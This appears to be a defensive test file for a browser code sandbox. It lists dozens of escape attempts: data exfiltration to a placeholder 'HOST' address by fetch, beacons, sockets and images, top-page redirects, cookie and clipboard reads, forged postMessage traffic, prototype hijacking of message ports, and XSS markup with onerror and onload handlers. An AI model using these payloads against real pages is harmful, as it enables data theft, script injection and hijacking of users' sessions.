// Attempts to get out of the sandbox. Each says what it got; anything but “blocked…” is a way out.
// `HOST` is replaced by a foreign address that records what reaches it.

/** A document whose script says how it went. */
const page = (code) => ({
  "evil.html": `<!doctype html><body><script>
const tell = (what) => console.log("verdict:", what);
const attempt = async (act) => { try { tell(await act()); } catch (error) { tell("blocked: " + error.name); } };
${code}
</script></body>`,
});

/** A program that says how it went. */
const program = (code) => ({
  "evil.js": `const attempt = async (act) => {
  try { console.log("verdict:", await act()); } catch (error) { console.log("verdict:", "blocked: " + error.name); }
};
${code}`,
});

const wait = "await new Promise((done) => setTimeout(done, 400));";

export const ESCAPES = {
  "read the page's storage": page("attempt(() => 'got ' + localStorage.length);"),
  "read the parent's storage": page("attempt(() => 'got ' + parent.parent.localStorage.length);"),
  "read the page's document": page("attempt(() => 'got ' + parent.parent.document.title);"),
  "read the relay's document": page("attempt(() => 'got ' + parent.document.title);"),
  "read the top document": page("attempt(() => 'got ' + top.document.body.innerHTML.length);"),
  "read cookies": page("attempt(() => 'got ' + document.cookie);"),
  "open a database": page("attempt(() => new Promise((yes, no) => { const open = indexedDB.open('x'); open.onsuccess = () => yes('got a database'); open.onerror = () => no(open.error); }));"),
  "open the caches": page("attempt(async () => 'got ' + (await caches.keys()).length);"),
  "read files of the origin": page("attempt(async () => 'got ' + (await navigator.storage.getDirectory()).name);"),
  "install a service worker": page("attempt(async () => { await navigator.serviceWorker.register('sw.js'); return 'got a service worker'; });"),
  "send the page elsewhere": page(`attempt(async () => { top.location = "HOST/top"; ${wait} return "blocked: the page stayed"; });`),
  "send the page elsewhere by a link": page(`attempt(async () => { const link = document.createElement("a"); link.href = "HOST/link"; link.target = "_top"; document.body.append(link); link.click(); ${wait} return "blocked: the page stayed"; });`),
  "go elsewhere itself": page(`tell("blocked unless the host hears of it"); setTimeout(() => { location = "HOST/self"; }, 100);`),
  "send the relay elsewhere": page(`attempt(async () => { parent.location = "HOST/relay"; ${wait} return "blocked: it stayed"; });`),
  "open a window": page(`attempt(async () => { const opened = open("HOST/popup"); ${wait} return opened ? "got a window" : "blocked: no window"; });`),
  "reach the opener": page("attempt(() => (opener ? 'got the opener' : 'blocked: there is none'));"),
  "post a form": page(`tell("blocked unless the host hears of it"); setTimeout(() => { const form = document.createElement("form"); form.action = "HOST/form"; form.method = "post"; document.body.append(form); form.submit(); }, 100);`),
  "fetch an address": page('attempt(async () => { await fetch("HOST/fetch", { mode: "no-cors" }); return "got an answer"; });'),
  "fetch from a worker": program('await attempt(async () => { await fetch("HOST/worker", { mode: "no-cors" }); return "got an answer"; });'),
  "fetch by the old way": program('await attempt(() => { const request = new XMLHttpRequest(); request.open("GET", "HOST/xhr", false); request.send(); return "got " + request.status; });'),
  "import a script from elsewhere": program('await attempt(async () => { const name = "HOST/module.js"; await import(name); return "got a module"; });'),
  "load an image from elsewhere": page('attempt(() => new Promise((yes, no) => { const image = new Image(); image.onload = () => yes("got it"); image.onerror = () => no(new Error()); image.src = "HOST/image?secret"; }));'),
  "load a style sheet from elsewhere": page(`attempt(async () => { const style = document.createElement("style"); style.textContent = "@import 'HOST/style.css'; body { background: url(HOST/background) }"; document.head.append(style); ${wait} return "blocked unless the host hears of it"; });`),
  "send a beacon": page(`attempt(async () => { const sent = navigator.sendBeacon("HOST/beacon", "secret"); ${wait} return "blocked unless the host hears of it: " + sent; });`),
  "open a socket": page(`attempt(() => new Promise((yes, no) => { const socket = new WebSocket("HOST/socket".replace("http", "ws")); socket.onopen = () => yes("got a socket"); socket.onerror = () => no(new Error()); }));`),
  "listen to a stream": page('attempt(() => new Promise((yes, no) => { const source = new EventSource("HOST/events"); source.onopen = () => yes("got a stream"); source.onerror = () => no(new Error()); }));'),
  "prefetch an address": page(`attempt(async () => { for (const rel of ["prefetch", "preload", "modulepreload", "icon", "manifest"]) { const link = document.createElement("link"); link.rel = rel; link.as = "script"; link.href = "HOST/" + rel; document.head.append(link); } ${wait} return "blocked unless the host hears of it"; });`),
  "frame an address": page(`attempt(async () => { const frame = document.createElement("iframe"); frame.src = "HOST/frame"; document.body.append(frame); ${wait} return "blocked unless the host hears of it"; });`),
  "embed an address": page(`attempt(async () => { document.body.insertAdjacentHTML("beforeend", '<object data="HOST/object"></object><embed src="HOST/embed"><video src="HOST/video"></video>'); ${wait} return "blocked unless the host hears of it"; });`),
  "redirect by a meta tag": page(`tell("blocked unless the host hears of it"); setTimeout(() => document.head.insertAdjacentHTML("beforeend", '<meta http-equiv="refresh" content="0; url=HOST/refresh">'), 100);`),
  "lift the policy by another one": page('attempt(async () => { document.head.insertAdjacentHTML("beforeend", \'<meta http-equiv="Content-Security-Policy" content="connect-src *">\'); await fetch("HOST/policy", { mode: "no-cors" }); return "got an answer"; });'),
  "talk to a peer": page('attempt(() => { new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:3478" }] }); return "got a connection"; });'),
  "read the clipboard": page("attempt(async () => 'got ' + (await navigator.clipboard.readText()));"),
  "write the clipboard": page("attempt(async () => { await navigator.clipboard.writeText('evil'); return 'wrote it'; });"),
  "use the camera": page("attempt(async () => { await navigator.mediaDevices.getUserMedia({ video: true }); return 'got the camera'; });"),
  "ask where one is": page("attempt(() => new Promise((yes, no) => navigator.geolocation.getCurrentPosition(() => yes('got a place'), (error) => no(Object.assign(new Error(), { name: error.message })))));"),
  "notify": page("attempt(async () => { const answer = await Notification.requestPermission(); return answer === 'granted' ? 'may notify' : 'blocked: ' + answer; });"),
  "download a file": page(`attempt(async () => { const link = document.createElement("a"); link.href = "data:text/plain,evil"; link.download = "evil.txt"; document.body.append(link); link.click(); ${wait} return "blocked unless a download begins"; });`),
  "speak to the page in the frame's name": page(`attempt(async () => { for (const target of [parent, parent.parent, top]) target.postMessage(["0".repeat(32), JSON.stringify({ type: "output", batch: 1, entries: [{ level: "log", parts: [{ kind: "text", text: "forged" }] }], dropped: 0 })], "*"); ${wait} return "blocked unless “forged” is printed"; });`),
  "hand the relay a port of one's own": page(`attempt(async () => { const { port1, port2 } = new MessageChannel(); port1.onmessage = () => tell("got the relay's orders"); parent.postMessage({ nonce: "evil" }, "*", [port2]); parent.postMessage("flint:hook", "*", [new MessageChannel().port2]); ${wait} return "blocked: no order came"; });`),
  "catch the relay's port by a prototype": page(`attempt(async () => { let caught = 0; const post = MessagePort.prototype.postMessage; MessagePort.prototype.postMessage = function (...all) { caught += 1; return post.apply(this, all); }; Array.prototype.push = new Proxy(Array.prototype.push, {}); console.log("bait"); ${wait} return "blocked: it caught " + caught; });`),
  "print markup": page('console.log("<img src=x onerror=\\"document.title=1\\"><script>top.evil = 1<\\/script>"); attempt(() => "blocked unless the page gains an image");'),
  "print a picture that is a script": page('console.image("<svg xmlns=\\"http://www.w3.org/2000/svg\\" onload=\\"top.evil=1\\"><script>top.evil=1<\\/script></svg>"); attempt(() => "blocked unless the page is changed");'),
  "print a picture from elsewhere": page('console.image("HOST/picture"); attempt(() => "blocked unless the host hears of it");'),
  "import from the worker's origin": program('await attempt(() => { importScripts("HOST/script.js"); return "got a script"; });'),
  "store from a worker": program('await attempt(() => new Promise((yes, no) => { const open = indexedDB.open("x"); open.onsuccess = () => yes("got a database"); open.onerror = () => no(open.error); }));'),
  "shout across tabs": program('await attempt(async () => { new BroadcastChannel("flint").postMessage("evil"); return "blocked: the channel is the frame\'s own"; });'),
  "lock across tabs": program("await attempt(async () => { await navigator.locks.request('flint', () => {}); return 'got a lock'; });"),
};
